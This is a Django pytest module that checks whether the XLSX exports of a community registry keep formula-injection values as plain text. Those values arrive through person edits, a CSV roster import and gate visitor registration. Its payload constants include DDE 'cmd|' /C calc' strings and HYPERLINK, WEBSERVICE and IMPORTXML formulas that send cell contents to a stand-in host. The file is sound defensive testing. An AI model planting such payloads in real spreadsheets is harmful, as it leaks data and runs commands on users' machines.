"""Issue 10.2: a value that would start a formula reaches every export as text. The values come in
the ways an attacker has: the registry's services (what the edit form calls), a CSV roster import, a
visitor registered at a gate; the exports are read back with openpyxl."""

from __future__ import annotations

import datetime as dt
import io
import uuid
from decimal import Decimal
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from shequ.campaigns import services as campaign_services
from shequ.campaigns.models import Kind
from shequ.gates.models import Gate
from shequ.gates.rules import Checks
from shequ.gates.services import visitor_register
from shequ.registry.importer import import_roster, rejected_rows_xlsx
from shequ.registry.models import Compound, Person
from shequ.registry.services import clean_person_fields, person_update

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clock")]

# The tester's payload and OWASP's, as far as a name (at most 60 characters) or a note can carry them.
HYPERLINK = '=HYPERLINK("http://e.x/?"&TEXTJOIN(",",1,H:H),"核对")'
NAMES = [HYPERLINK, "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
         "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("http://e.x/?"&A1)']
NOTE = '=IMPORTXML(CONCAT("http://e.x/?v=", CONCATENATE(A2:E2)), "//a")'


def _workbook_cells(content: bytes) -> list[list[Any]]:
    return [list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows()]


def _assert_no_formula(content: bytes) -> list[list[Any]]:
    rows = _workbook_cells(content)
    formulas = [c.coordinate for row in rows for c in row if c.data_type == "f"]
    assert formulas == []
    return [[c.value for c in row] for row in rows]


def _export_cells(response: Any) -> list[list[Any]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return _assert_no_formula(response.content)


def test_names_and_notes_saved_through_the_registry_are_text_in_the_unmasked_export(
        login: Any, anchor_household: Any, users: dict[str, Any]) -> None:
    persons = list(anchor_household.persons.filter(status="active").order_by("id"))[:2]
    for person, name in zip(persons, NAMES[:2], strict=True):
        data = clean_person_fields(name=name, id_number=person.id_number, phone=person.phone, sex=person.sex,
                                   birth_date=person.birth_date, residency=person.residency,
                                   relation=person.relation, notes=NOTE)
        person_update(actor=users["staff"], person=person, data=data)
    stored = {p.pk: (p.name, p.notes) for p in Person.objects.filter(pk__in=[p.pk for p in persons])}
    assert {v[0] for v in stored.values()} == set(NAMES[:2])
    grid = anchor_household.room.unit.building.grid_id
    values = _export_cells(login("secretary").get(reverse("registry:persons"), {"grid": grid, "format": "xlsx"}))
    header, body = values[0], values[1:]
    name_col, notes_col = header.index("姓名") if "姓名" in header else header.index("name"), len(header) - 1
    exported = {(row[name_col], row[notes_col]) for row in body}
    assert set(stored.values()) <= exported  # the visible text is what the registry holds


def test_a_csv_roster_brings_payloads_into_the_registry_and_they_stay_text(login: Any, users: dict[str, Any]) -> None:
    from shequ.registry.models import Community

    futong = Community.objects.get(code="futong")
    lines = ["姓名,小区,楼栋,单元,房号,备注"]
    lines += [f'"{n.replace(chr(34), chr(34) * 2)}",注入小区,1,1,10{i},"{NOTE.replace(chr(34), chr(34) * 2)}"'
              for i, n in enumerate(NAMES)]
    # A rejected row (an impossible ID number) with a payload: it comes back in the rejected sheet.
    lines[0] += ",身份证号"
    lines = [line + ("," if i else "") for i, line in enumerate(lines)]
    lines.append(f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",注入小区,1,1,201,note,123456789012345678')
    result = import_roster(community=futong, path_or_file=("\n".join(lines) + "\n").encode("utf-8"),
                           filename="roster.csv", actor=users["secretary"])
    assert result.created == len(NAMES) and result.rejected_rows == 1
    compound = Compound.objects.get(community=futong, name="注入小区")
    values = _export_cells(login("secretary").get(reverse("registry:persons"),
                                                  {"compound": compound.pk, "format": "xlsx"}))
    header = values[0]
    name_col = header.index("姓名") if "姓名" in header else header.index("name")
    assert sorted(row[name_col] for row in values[1:]) == sorted(NAMES)
    assert {row[-1] for row in values[1:]} == {NOTE}
    rejected = _assert_no_formula(rejected_rows_xlsx(result))
    assert rejected[0][:6] == ["姓名", "小区", "楼栋", "单元", "房号", "备注"]
    assert rejected[1][0] == HYPERLINK


def test_a_visitor_registered_at_a_gate_is_text_in_the_ledger_export(login: Any, anchor_household: Any) -> None:
    gate = Gate.objects.get(community__code="futong", compound__name="富通小区", name="东门")
    checks = Checks(direction="in", temperature=Decimal("36.4"), health_code="green", mask=True)
    for name in NAMES:
        visitor_register(gate=gate, actor=None, name=name, phone="13912345678", host_household=anchor_household,
                         reason=NOTE, checks=checks, client_id=uuid.uuid4())
    today = timezone.localdate().isoformat()
    values = _export_cells(login("staff").get(reverse("gates:ledger", args=[gate.pk]),
                                              {"date": today, "format": "xlsx", "subject": "visitor"}))
    assert {row[1] for row in values[1:]} >= set(NAMES)


def test_the_missing_list_of_a_round_is_text(login: Any, anchor_household: Any, users: dict[str, Any]) -> None:
    person = anchor_household.persons.filter(status="active").order_by("id").first()
    data = clean_person_fields(name=HYPERLINK, id_number=person.id_number, phone=person.phone, sex=person.sex,
                               birth_date=person.birth_date, residency=person.residency, relation=person.relation)
    person_update(actor=users["staff"], person=person, data=data)
    secretary = users["secretary"]
    campaign = campaign_services.campaign_create(
        actor=secretary, community=anchor_household.community, name="第九轮", kind=Kind.TEST_ROUND,
        starts_on=dt.date(2022, 4, 5), buildings=[anchor_household.room.unit.building])
    campaign_services.campaign_open(actor=secretary, campaign=campaign)
    values = _export_cells(login("secretary").get(reverse("campaigns:missing", args=[campaign.pk]),
                                                  {"format": "xlsx"}))
    assert HYPERLINK in {row[5] for row in values[1:]}
